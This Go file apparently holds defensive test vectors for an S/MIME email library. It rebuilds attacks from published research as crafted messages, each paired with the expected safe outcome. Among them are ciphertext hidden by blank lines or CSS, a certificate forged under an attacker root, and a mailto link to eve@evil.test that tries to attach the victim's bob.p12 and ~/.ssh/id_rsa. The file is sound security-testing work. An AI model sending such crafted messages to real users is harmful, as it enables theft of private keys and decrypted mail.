package attacks

import (
	"strings"

	"signet/smime"
	"signet/smime/cms"
	"signet/smime/internal/testca"
)

// covertContent is "Re: What's Up Johnny? Covert Content Attacks on Email End-to-End Encryption" (2019).
func covertContent() Class {
	const decryption = "Müller et al. 2019 b, decryption oracle"
	sealed := Outcome{Verdict: smime.VerdictPartlySigned, Finding: smime.FindingPartlyEncrypted, Sealed: true}
	vector := func(id, attack, source string, want Outcome, result string, entity func(w World) string) Vector {
		return Vector{
			ID: "covert-" + id, Attack: attack, Source: source, Want: want, Result: result,
			Make: func(w World) []byte { return w.message(eve, entity(w)) },
		}
	}
	const untouched = "an encrypted part among others is not decrypted, and so not quoted in an answer"
	return Class{
		Name: "Covert content",
		About: "The attacker sends Bob a ciphertext that somebody else made for him, in a harmless message; his answer is to quote " +
			"the text to her, or to sign a text that she hid.",
		Vectors: []Vector{
			vector("mixed", "The ciphertext follows a question in multipart/mixed", decryption, carried, carriedResult, func(w World) string {
				return multipart("mixed", "m", text("What's up?"), w.sealed(text(Secret)))
			}),
			vector("lines", "The same below so many empty lines that nobody scrolls there", decryption, carried, carriedResult, func(w World) string {
				return multipart("mixed", "m", text("What's up?"+strings.Repeat("\n", 1000)), w.sealed(text(Secret)), text("-- "))
			}),
			vector("alternative", "The ciphertext is an alternative that is not shown", decryption+"; Thunderbird, CVE-2019-11739", sealed, untouched, func(w World) string {
				return multipart("alternative", "a", text("What's up?"), w.sealed(text(Secret)), html("What's up?"))
			}),
			vector("related", "The ciphertext is an object to which an image refers", decryption, sealed, untouched, func(w World) string {
				part := strings.Replace(w.sealed(text(Secret)), "Content-Type:", "Content-ID: <c@evil.test>\r\nContent-Type:", 1)
				return multipart("related", "r", html(`What's up? <img src="cid:c@evil.test" width=1 height=1>`), part)
			}),
			vector("css", "A style sheet in the part before hides what comes after", decryption, carried, carriedResult, func(w World) string {
				return multipart("mixed", "m", html("<style>*{color:white;font-size:0}</style>What's up?"), w.sealed(html(Secret)), html("-- "))
			}),
			vector("message", "The ciphertext is a forwarded message", decryption, Outcome{Verdict: smime.VerdictUnprotected, Sealed: true},
				"a forwarded message is a file: closed until somebody opens it", func(w World) string {
					inner := string(w.message(alice, w.sealed(text(Secret))))
					return multipart("mixed", "m", text("What's up?"), "Content-Type: message/rfc822\r\n\r\n"+inner)
				}),
			vector("signed-around", "The attacker signs a message with the ciphertext in it", decryption, Outcome{Verdict: smime.VerdictVerified, By: "eve@evil.test", Sealed: true},
				"verified as hers; the part is a file, closed until somebody opens it", func(w World) string {
					return w.clear(multipart("mixed", "m", text("What's up?"), w.sealed(text(Secret))), w.Eve)
				}),
			vector("sealed-around", "The attacker encrypts a message with the ciphertext in it", decryption, Outcome{Verdict: smime.VerdictConfidential},
				"the part inside is a file, closed until somebody opens it", func(w World) string {
					return w.sealed(multipart("mixed", "m", text("What's up?"), w.sealed(text(Secret)), text("-- ")))
				}),
			vector("signed", "What Alice has signed and then encrypted follows a question of the attacker's", decryption,
				Outcome{Verdict: smime.VerdictPartlySigned, Enclosed: smime.VerdictOtherSender, Finding: smime.FindingPartlyEncrypted},
				"the same, and it is told that somebody else has signed it", func(w World) string {
					return multipart("mixed", "m", text("What's up?"), w.sealed(w.clear(text(Secret), w.Alice)))
				}),
			vector("whole", "The ciphertext is the whole message, and From is the attacker's", decryption+"; Davis 2001", Outcome{Verdict: smime.VerdictConfidential},
				"Bob opens it knowingly; it is told that nobody vouches for who wrote it", func(w World) string {
					return w.sealed(text(Secret))
				}),
			vector("conditional", "Text that style sheets show or hide by the width of the screen, in a message to be quoted and signed", "Müller et al. 2019 b, signing oracle",
				Outcome{Verdict: smime.VerdictUnprotected}, "quotations lose their styles, so that what is signed is what was seen", func(w World) string {
					return html("<style>.d{display:none}@media (max-width:1px){.d{display:block}.w{display:none}}</style>" +
						"<p class=w>What's up?</p><p class=d>I resign.</p><p style='font-size:0;color:transparent'>I resign.</p>")
				}),
		},
	}
}

// mailto is "Mailto: Me Your Secrets. On Bugs and Features in Email End-to-End Encryption" (2020).
func mailto() Class {
	const source = "Müller et al. 2020, "
	return Class{
		Name:  "Mailto: me your secrets",
		About: "Certificates that come by mail take the place of the right ones, and links start drafts that give something away.",
		Vectors: []Vector{
			{
				ID: "mailto-key-replacement", Attack: "A certificate for Alice, of an authority that nobody knows, comes with a message, to be used from then on", Source: source + "key replacement",
				Make: func(w World) []byte {
					mine := w.forgedAlice()
					return w.message(alice, w.clear(text("This is my new certificate."), mine))
				},
				Want: Outcome{Verdict: smime.VerdictUntrusted}, Result: "certificates are learned from verified messages alone",
			}, {
				ID: "mailto-key-among-others", Attack: "The same certificate beside the attacker's own in her own message, which is verified", Source: source + "key replacement",
				Make: func(w World) []byte {
					sd := takeApart(w.signature(text(Genuine), cms.Detached, w.Eve))
					sd.certificates = append(sd.certificates, w.forgedAlice().Certificate.Raw...)
					return w.message(eve, beside(text(Genuine), sd.der()))
				},
				Want: Outcome{Verdict: smime.VerdictVerified, By: "eve@evil.test"}, Result: "what a message brings is learned for its signer alone",
			}, {
				ID: "mailto-attach", Attack: "A link that attaches a file of Bob's to a new message", Source: source + "mailto:?attach=",
				Make: func(w World) []byte {
					return w.message(eve, html(`<a href="mailto:eve@evil.test?attach=/home/bob/bob.p12&attachment=~/.ssh/id_rsa&body=hello">answer</a>`))
				},
				Want: Outcome{Verdict: smime.VerdictUnprotected}, Result: "links open by a click alone, in the browser, which knows no such parameter",
			},
		},
	}
}

// forgedAlice is Alice by an authority of the attacker's own.
func (w World) forgedAlice() *testca.Identity {
	return testca.NewRoot(testca.Name("Evil Root"), w.valid()).Issue(testca.Email("alice@example.test"), testca.Name("Alice Example"), w.valid())
}
